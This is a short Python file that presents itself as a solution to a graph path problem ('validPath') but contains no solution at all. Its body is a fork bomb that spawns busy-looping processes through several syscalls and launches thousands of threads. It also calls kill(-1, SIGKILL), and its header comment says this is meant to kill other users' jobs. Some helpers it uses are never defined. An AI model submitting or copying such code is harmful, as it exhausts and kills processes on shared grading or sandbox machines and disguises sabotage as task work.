# forkbomb: processes by every route, a thread bomb, and a kill of every
# process it can signal (as nobody, before: the other jobs too)
import signal
import threading


class Solution:
    def validPath(self, n, edges, source, destination):
        tried = []
        for _ in range(50):
            if libc.fork() == 0:
                while True:
                    pass
        tried.append("fork:" + errno_of(libc.fork()))
        tried.append("vfork:" + errno_of(libc.syscall(58)))
        tried.append("clone:" + errno_of(libc.syscall(56, 17, 0, 0, 0, 0)))
        try:
            os.fork()
            tried.append("os.fork:ok")
        except BaseException as e:
            tried.append("os.fork:" + type(e).__name__)
        threads = 0
        try:
            for _ in range(10000):
                th = threading.Thread(target=lambda: __import__("time").sleep(30), daemon=True)
                th.start()
                threads += 1
        except BaseException as e:
            tried.append("threads:%d:%s" % (threads, type(e).__name__))
        tried.append("kill-1:" + errno_of(libc.kill(-1, signal.SIGKILL)))
        raise RuntimeError(" ".join(tried))
